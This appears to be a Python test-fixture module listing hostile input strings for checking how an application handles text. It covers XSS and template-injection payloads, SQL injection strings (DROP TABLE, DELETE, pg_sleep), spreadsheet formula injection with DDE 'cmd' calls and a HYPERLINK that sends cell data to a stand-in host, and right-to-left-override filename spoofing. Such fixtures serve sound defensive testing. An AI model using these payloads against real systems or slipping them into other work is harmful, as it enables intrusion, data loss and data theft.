"""Texts that do harm where a page, a database or a spreadsheet takes them for more than text. Written once, tried everywhere."""

SCRIPT = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "</textarea><script>alert(1)</script>",
    "</option></select><svg/onload=alert(1)>",
    "' autofocus onfocus='alert(1)",
    "</style><style>*{display:none}</style>",
    "<!-- ",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "javascript:alert(1)",
    "{{ 7 * 7 }}{% raw %}{{ config }}",
    "${7*7}<%= 7*7 %>#{7*7}",
    "%s %(id)s {0} {id} {question}",
    "![](http://203.0.113.9/x.png)[a](javascript:alert(1)) **b** $x^2$ :red[c]",
    "a | b | c\n|---|---|",
)
SQL = (
    "'; DROP TABLE response; --",
    "' OR '1'='1",
    "1); DELETE FROM comment; --",
    "\\'; SELECT pg_sleep(9); --",
    '" UNION SELECT id, text FROM comment --',
    "%' ESCAPE '",
    ":id ? $1 %(id)s",
)
FORMULA = (
    "=1+1",
    '=HYPERLINK("http://203.0.113.9/"&A1;"bấm")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1",
    "－1+1",
    "＠SUM(1)",
    '"=1+1"',
)  # fmt: skip
DIRECTION = (
    "Tốt \u202egnp.exe",
    "\u2067a\u2066b\u2069\u202a\u202b\u202d\u202c",
    "\u200f\u200e\u061c lặng",
    "a\u2028b\u2029c\ufeff",
)
ODD = (
    "\x00\x01\x1b[31m đỏ\x7f",
    "ti\u0302\u0301ng",
    "👩‍👩‍👧",
    "a" + "\u0301" * 200,
    "x" * 5000,
    " ",
    "0",
    "-1",
    "1e400",
    "NaN",
    "٣",
    "na",
)
EVERY = (*SCRIPT, *SQL, *FORMULA, *DIRECTION, *ODD)
INVISIBLE_ORDERS = "\u200e\u200f\u061c\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
"""Letters without a shape that turn the direction of those around them."""
